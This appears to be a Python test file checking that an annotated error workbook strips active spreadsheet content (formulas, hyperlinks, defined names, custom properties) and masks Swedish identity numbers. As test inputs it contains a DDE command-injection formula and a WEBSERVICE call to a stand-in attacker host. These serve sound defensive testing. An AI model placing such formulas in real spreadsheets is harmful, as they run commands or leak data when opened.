"""The errors copy holds nothing that acts when opened, and no identity number anywhere."""

import io
import re
import zipfile

from openpyxl import load_workbook
from openpyxl.packaging.custom import StringProperty
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from outcomes.workbook.annotate import annotated_workbook

BAD = ["SAFE", "2031", "", "57", ""]  # no such period: the file is rejected


def copy_of(make_workbook, parse, edit, **options):
    data = make_workbook([BAD], edit=edit)
    return annotated_workbook(data, parse(data).errors, mask_identifiers=True, **options)


def test_every_formula_becomes_text_shown_as_typed(make_workbook, parse):
    def edit(book):
        sheet = book["Values"]
        sheet["F2"] = "=cmd|' /C calc'!A0"
        sheet["F3"] = ArrayFormula("F3", '=WEBSERVICE("https://evil.example")')
        sheet["F4"] = "-2+3"

    out = copy_of(make_workbook, parse, edit)

    with zipfile.ZipFile(io.BytesIO(out)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(rb"<(\w+:)?f[ >]", xml) for xml in sheets)
    values = load_workbook(io.BytesIO(out))["Values"]
    assert [values[ref].value for ref in ("F2", "F3", "F4")] == [
        "=cmd|' /C calc'!A0", '=WEBSERVICE("https://evil.example")', "-2+3",
    ]  # fmt: skip
    assert all(values[ref].data_type == "s" and values[ref].quotePrefix for ref in ("F2", "F3"))


def test_links_names_validations_and_custom_properties_are_dropped(make_workbook, parse):
    def edit(book):
        book["Values"]["G2"].hyperlink = "https://evil.example/?pnr=191212121212"
        book.defined_names["secret"] = DefinedName("secret", attr_text='"191212121212"')
        check = DataValidation(type="list", formula1='"a,b"')
        book["Values"].add_data_validation(check)
        check.add("A2")
        book.custom_doc_props.append(StringProperty(name="case", value="811218-9876"))

    out = copy_of(make_workbook, parse, edit)

    book = load_workbook(io.BytesIO(out))
    assert book["Values"]["G2"].hyperlink is None
    assert "secret" not in book.defined_names
    assert book["Values"].data_validations.dataValidation == []
    assert len(book.custom_doc_props.props) == 0
    with zipfile.ZipFile(io.BytesIO(out)) as archive:
        text = b"".join(archive.read(n) for n in archive.namelist())
    assert b"191212121212" not in text
    assert b"811218" not in text
    # The link's text stays as the cell's value (masked); only the link is gone.
    assert book["Values"]["G2"].value == "https://evil.example/?pnr=***"


def test_the_document_properties_lose_their_identity_numbers(make_workbook, parse):
    def edit(book):
        book.properties.title = "Uppföljning 19121212-1212"
        book.properties.subject = "811218-9876"

    book = load_workbook(io.BytesIO(copy_of(make_workbook, parse, edit)))

    assert (book.properties.title, book.properties.subject) == ("Uppföljning ***", "***")


def test_a_number_format_quoting_an_identity_number_becomes_general(make_workbook, parse):
    def edit(book):
        book["Values"]["D2"].number_format = '0" (pnr 811218-9876)"'

    out = copy_of(make_workbook, parse, edit)

    assert load_workbook(io.BytesIO(out))["Values"]["D2"].number_format == "General"
    assert b"811218" not in archive_bytes(out)


def archive_bytes(data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist())


def test_past_the_cell_limit_only_the_errors_sheet_is_made(make_workbook, parse):
    data = make_workbook([BAD])
    parsed = parse(data)

    out = annotated_workbook(data, parsed.errors, cells=parsed.cells, max_cells=parsed.cells - 1)

    assert load_workbook(io.BytesIO(out)).sheetnames == ["Errors"]
